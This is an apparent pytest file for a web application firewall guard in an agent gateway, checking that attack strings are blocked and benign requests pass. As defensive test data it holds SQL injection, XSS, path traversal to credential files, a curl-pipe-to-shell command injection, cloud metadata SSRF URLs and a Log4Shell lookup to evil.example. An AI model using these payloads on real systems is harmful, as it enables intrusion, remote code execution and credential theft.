"""C7 WAF guard: attacks in the fields that reach tools are refused, benign traffic is not."""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from maestro_gateway.context import RequestContext
from maestro_gateway.guards.waf import (
    LIBINJECTION,
    WAF_BLOCKED,
    Finding,
    WafGuard,
    WafGuardConfig,
    WafInspectConfig,
    check_http_anomalies,
)
from maestro_gateway.types import Verdict, VerdictKind

HEADERS = {"host": "gw.example.com", "content-type": "application/json", "a2a-version": "1.0"}


def send(*parts: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    msg: dict[str, Any] = {"messageId": "m1", "role": "ROLE_USER", "parts": list(parts)}
    if metadata is not None:
        msg["metadata"] = metadata
    return {"message": msg}


def context(params: Any, headers: dict[str, str] | None = None, **extra: Any) -> RequestContext:
    ctx = RequestContext("r1", "echo", "SendMessage", params, headers=dict(headers or HEADERS))
    ctx.extra.update(extra)
    return ctx


async def run(ctx: RequestContext, **cfg: Any) -> Verdict:
    return await WafGuard(WafGuardConfig(**cfg)).on_request(ctx)


def rules(v: Verdict) -> set[str]:
    return set(str(v.details.get("rule", "")).split(","))


def assert_blocked(v: Verdict, *expected: str) -> None:
    assert v.kind is VerdictKind.DENY, v
    assert (v.status, v.code, v.guard) == (403, WAF_BLOCKED, "waf")
    assert int(v.details["score"]) >= 5
    assert set(expected) <= rules(v), rules(v)


async def test_sqli_in_data_part_is_blocked() -> None:
    """A tautology injection in a data part is refused with SQLi rule ids and the score."""
    v = await run(context(send({"data": {"filter": "x' OR '1'='1' --"}})))
    assert_blocked(v, "942180")
    if LIBINJECTION:
        assert "942100" in rules(v)
    assert "params.message.parts[0].data.filter" in v.reason


async def test_union_sqli_in_metadata_is_blocked() -> None:
    """A UNION-based injection in message metadata is refused."""
    v = await run(context(send({"text": "hi"}, metadata={"sort": "1 UNION ALL SELECT NULL--"})))
    assert_blocked(v, "942190")


async def test_xss_in_data_part_is_blocked() -> None:
    """An event-handler XSS payload in a data part is refused."""
    v = await run(context(send({"data": {"bio": '"><svg/onload=alert(document.domain)>'}})))
    assert_blocked(v, "941120", "941160")


@pytest.mark.parametrize(
    "value",
    [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afwindows%c0%afwin.ini",
        "....//....//....//etc/passwd",
        "..\\..\\..\\boot.ini",
    ],
)
async def test_path_traversal_is_blocked_in_plain_and_encoded_forms(value: str) -> None:
    """Traversal to an OS file is refused however it is URL- or overlong-encoded."""
    v = await run(context(send({"data": {"path": value}})))
    assert_blocked(v)
    assert rules(v) & {"930100", "930110", "930120"}


@pytest.mark.parametrize(
    "value", ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://x.io/s|sh)", "a;ping -c 3 x"]
)
async def test_command_injection_is_blocked(value: str) -> None:
    """Shell separators followed by commands, and command substitution, are refused."""
    v = await run(context(send({"data": {"host": value}})))
    assert_blocked(v)
    assert any(r.startswith("932") for r in rules(v))


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://2852039166/latest/",
        "http://[::ffff:a9fe:a9fe]/",
    ],
)
async def test_ssrf_to_metadata_address_in_data_part_is_blocked(url: str) -> None:
    """A cloud metadata address in a data part (which a tool may fetch) is refused."""
    v = await run(context(send({"data": {"callback": url}})))
    assert_blocked(v, "934110")


async def test_loopback_url_part_is_blocked() -> None:
    """A URL part pointing at loopback is refused by the WAF too (rule 934120)."""
    v = await run(context(send({"url": "http://127.0.0.1:8080/admin"})))
    assert_blocked(v, "934120")


async def test_json_keys_are_inspected() -> None:
    """Dangerous keys in data parts (prototype pollution, Mongo operators) are refused."""
    v = await run(context(send({"data": {"__proto__": {"admin": True}}})))
    assert_blocked(v, "934130")
    v = await run(context(send({"data": {"user": {"$where": "sleep(5000)"}}})))
    assert_blocked(v, "942290")


async def test_attack_in_header_is_blocked() -> None:
    """Header values are inspected: Log4Shell in User-Agent is refused."""
    headers = {**HEADERS, "user-agent": "${jndi:ldap://evil.example/a}"}
    v = await run(context(send({"text": "hi"}), headers))
    assert_blocked(v, "944150")
    assert "header:user-agent" in v.reason


async def test_attack_in_query_string_is_blocked() -> None:
    """The query string the data plane hands over is inspected, URL-decoded."""
    v = await run(context({"id": "t1"}, query_string=b"id=1%27%20or%20%271%27%3D%271"))
    assert_blocked(v, "942180")


async def test_reason_does_not_echo_the_payload() -> None:
    """The refusal names rules and locations, never the attacker's text."""
    v = await run(context(send({"data": {"q": "<script>alert('pwned-marker')</script>"}})))
    assert_blocked(v, "941110")
    assert "pwned-marker" not in v.reason
    v = await run(context(send({"data": {"<img src=x onerror=alert(1)>": 1}})))
    assert_blocked(v, "941120")
    assert "<" not in v.reason


async def test_content_length_with_transfer_encoding_is_blocked() -> None:
    """Content-Length together with Transfer-Encoding (smuggling shape) is refused."""
    headers = {**HEADERS, "content-length": "10", "transfer-encoding": "chunked"}
    assert_blocked(await run(context(send({"text": "hi"}), headers)), "920181")


async def test_conflicting_content_lengths_are_blocked() -> None:
    """Duplicate Content-Length headers with different values (joined '5,7') are refused."""
    headers = {**HEADERS, "content-length": "5,7"}
    assert_blocked(await run(context(send({"text": "hi"}), headers)), "920161")


async def test_oversized_header_is_blocked() -> None:
    """A header longer than the limit is refused."""
    headers = {**HEADERS, "x-padding": "a" * 9000}
    assert_blocked(await run(context(send({"text": "hi"}), headers)), "920370")


async def test_invalid_method_is_blocked() -> None:
    """A method outside the allowed list (given by the data plane) is refused."""
    v = await run(context(send({"text": "hi"}), http_method="TRACE"))
    assert_blocked(v, "911100")


async def test_raw_header_anomalies_from_data_plane_are_scored() -> None:
    """Findings computed on the raw ASGI headers and handed over in ctx.extra are scored."""
    raw = [(b"host", b"gw"), (b"content-length", b"5"), (b"content-length", b"7")]
    found = check_http_anomalies("POST", raw)
    v = await run(context(send({"text": "hi"}), http_anomalies=found))
    assert_blocked(v, "920161")


async def test_paranoia_level_enables_stricter_rules() -> None:
    """A plain HTML anchor is allowed at paranoia 1 and refused at paranoia 2 (rule 941320)."""
    params = send({"data": {"note": '<a href="https://example.com">docs</a>'}})
    assert (await run(context(params))).kind is VerdictKind.ALLOW
    assert_blocked(await run(context(params), paranoia_level=2), "941320")


async def test_detection_paranoia_records_without_counting() -> None:
    """Rules above the paranoia level but within the detection level are recorded only."""
    ctx = context(send({"data": {"note": '<a href="https://example.com">docs</a>'}}))
    v = await run(ctx, paranoia_level=1, detection_paranoia_level=2)
    assert v.kind is VerdictKind.ALLOW
    assert ctx.extra["waf"]["score"] == 0
    assert [f["rule"] for f in ctx.extra["waf"]["findings"]] == [941320]


async def test_threshold_decides_between_recording_and_blocking() -> None:
    """A warning (score 3) stays under the default threshold 5 but blocks at threshold 3."""
    headers = {**HEADERS, "content-length": "5,5"}  # repeated, identical: warning 920162
    ctx = context(send({"text": "hi"}), headers)
    assert (await run(ctx)).kind is VerdictKind.ALLOW
    assert ctx.extra["waf"]["score"] == 3
    assert not ctx.extra["waf"]["blocked"]
    v = await run(context(send({"text": "hi"}), headers), inbound_threshold=3)
    assert v.kind is VerdictKind.DENY
    assert rules(v) == {"920162"}


async def test_log_only_allows_and_records() -> None:
    """In log_only mode an attack passes, and its findings are recorded in ctx.extra."""
    ctx = context(send({"data": {"q": "1' UNION SELECT password FROM users--"}}))
    assert (await run(ctx, mode="log_only")).kind is VerdictKind.ALLOW
    record = ctx.extra["waf"]
    assert record["mode"] == "log_only"
    assert record["score"] >= 5
    assert not record["blocked"]
    assert 942190 in {f["rule"] for f in record["findings"]}
    assert "excerpt" not in record["findings"][0]


async def test_disabled_rules_do_not_fire() -> None:
    """Disabling the SSRF rules lets a metadata URL through; other rules still apply."""
    params = send({"data": {"u": "http://169.254.169.254/latest/meta-data/"}})
    off = [934110, 934120, 931100]
    assert (await run(context(params), disabled_rules=off)).kind is VerdictKind.ALLOW
    attack = send({"data": {"u": "http://169.254.169.254/", "p": "../../etc/passwd"}})
    assert_blocked(await run(context(attack), disabled_rules=off), "930120")


async def test_skip_keys_exempts_a_field_only() -> None:
    """A key listed in skip_keys (e.g. a SQL tool's query) is not inspected; its siblings are."""
    inspect = WafInspectConfig(skip_keys=["sql"])
    ok = send({"data": {"sql": "SELECT * FROM t WHERE a='1' OR '1'='1'"}})
    assert (await run(context(ok), inspect=inspect)).kind is VerdictKind.ALLOW
    bad = send({"data": {"sql": "SELECT 1", "name": "x' OR '1'='1"}})
    assert_blocked(await run(context(bad), inspect=inspect), "942180")


async def test_natural_language_text_parts_pass_but_tool_fields_do_not() -> None:
    """Text parts full of SQL and markup pass (not inspected by default); the same strings in
    a data part are refused."""
    text = "Explain why 1' OR '1'='1 works, and what <script>alert(1)</script> does."
    assert (await run(context(send({"text": text})))).kind is VerdictKind.ALLOW
    assert_blocked(await run(context(send({"data": {"q": text}}))))


async def test_text_parts_are_inspected_when_enabled() -> None:
    """With inspect.text_parts on, an injection in a text part is refused."""
    inspect = WafInspectConfig(text_parts=True)
    v = await run(context(send({"text": "1' OR '1'='1' --"})), inspect=inspect)
    assert_blocked(v, "942180")


async def test_benign_request_passes_untouched() -> None:
    """A realistic SendMessage with trigger-word-laden values passes without any finding,
    while one injected value in it is refused."""
    data = {
        "customer": "Anna O'Neill",
        "note": "Call back after 3pm; ask for the select committee (room 2-14)",
        "query": "price > 10 and qty < 5",
        "report_url": "https://reports.example.com/q1?format=pdf&lang=en",
        "path": "reports/2024/q1.pdf",
        "title": "Tom & Jerry -- the 'classic' edition",
    }
    headers = {**HEADERS, "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/124.0"}
    ctx = context(send({"text": "Summarise this"}, {"data": data}), headers)
    assert (await run(ctx)).kind is VerdictKind.ALLOW
    assert "waf" not in ctx.extra
    data["path"] = "../../../etc/shadow"
    assert_blocked(await run(context(send({"data": data}), headers)), "930120")


def test_config_is_strict() -> None:
    """The config refuses unknown fields, unknown rule ids and inconsistent paranoia levels."""
    with pytest.raises(ValidationError):
        WafGuardConfig.model_validate({"paranoia": 2})
    with pytest.raises(ValidationError):
        WafGuardConfig(disabled_rules=[123456])
    with pytest.raises(ValidationError):
        WafGuardConfig(paranoia_level=3, detection_paranoia_level=2)
    with pytest.raises(ValidationError):
        WafGuardConfig(paranoia_level=5)


def test_public_names_are_exported() -> None:
    """Every name in the module's __all__ exists."""
    from maestro_gateway.guards import waf

    assert all(hasattr(waf, name) for name in waf.__all__)
    assert isinstance(check_http_anomalies("GET", []), list)
    assert all(isinstance(f, Finding) for f in check_http_anomalies("FOO", [(b"host", b"x")]))
